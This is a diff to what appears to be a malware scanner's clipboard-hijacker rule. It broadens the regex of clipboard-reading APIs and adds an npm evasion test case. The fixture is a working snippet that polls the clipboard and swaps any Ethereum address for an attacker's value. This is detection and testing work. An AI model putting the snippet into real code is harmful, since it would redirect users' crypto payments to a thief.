@@ -26,7 +26,9 @@ Wallet software recognises addresses too, but does not combine this with the cli
       const match = matchInCode(file, PATTERN);
       if (
         match === undefined ||
-        !/(?:paste|get_?clipboard|clipboard_get|readText|getText|GetClipboardData)/i.test(file.text)
+        !/(?:paste|get_?clipboard|clipboard_get|readText|getText|GetClipboardData|readSync|clipboard\w{0,6}\.read\b|xclip)/i.test(
+          file.text,
+        )
       )
         continue;
       yield sight(file, match.index, `looks for wallet addresses in the clipboard: ${match[0].slice(0, 60)}`);
@@ -53,6 +55,13 @@ Wallet software recognises addresses too, but does not combine this with the cli
       },
     ],
     evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const c = require('clipboardy');\nsetInterval(() => {\n  if (/^0x[a-fA-F0-9]{40}$/.test(c.readSync())) c.writeSync(MINE);\n}, 500);\n",
+        },
+      },
       {
         ecosystem: "npm",
         files: {
